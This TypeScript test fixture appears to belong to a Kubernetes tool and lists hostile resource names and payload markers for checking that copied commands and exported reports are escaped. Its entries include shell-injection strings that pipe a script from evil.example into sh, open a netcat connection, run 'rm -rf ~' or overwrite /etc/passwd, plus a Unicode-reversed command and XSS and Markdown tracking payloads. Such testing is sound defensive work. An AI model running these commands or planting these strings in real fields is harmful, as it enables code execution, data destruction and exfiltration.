// Names an attacker can put into a paste (a pod, node or namespace field, a log line) to make a
// copied command run something, or an exported report carry a link, an image or HTML.
export const HOSTILE_NAMES = [
  'web-1; curl -s https://evil.example/x.sh | sh; #',
  'web-1 && rm -rf ~',
  'web-1 || wget evil.example',
  '$(curl evil.example)',
  '`id`',
  "web'1; id; echo '",
  'web-1\necho pwned',
  'web-1 | nc evil.example 4444',
  'web-1 > /etc/passwd',
  '-o=go-template={{...}}',
  '--kubeconfig=/tmp/evil',
  'web-1\u202e; hs | hs.x/elpmaxe.live//:sptth s- lruc',
  'we\u200bb-1',
  '[click](https://evil.example/steal)',
  '![track](https://evil.example/p.png)',
  '<img src=https://evil.example/p.png>',
  '<script>alert(1)</script>',
  '<https://evil.example/autolink>',
  'https://evil.example/bare',
  'javascript:alert(1)',
  '[ref]: https://evil.example/reference',
  '*bold* _em_ ~~strike~~ | table | cell |',
  '&lt;img src=x onerror=alert(1)&gt;',
] as const;

/** Valid Kubernetes names (they may fill a command) that Markdown renderers still turn into links. */
export const LINKY_VALID_NAMES = ['www.evil.example', 'evil.example', 'evil.com', 'www.evil.com'] as const;

/** Fragments of the payloads that must never reach a command. */
export const PAYLOAD_MARKERS = [
  'curl',
  'rm -rf',
  'wget',
  '$(curl',
  '`id`',
  'id;',
  'echo',
  ' nc ',
  '/etc/passwd',
  'go-template',
  '--kubeconfig',
  '\u202e',
  '\u200b',
];
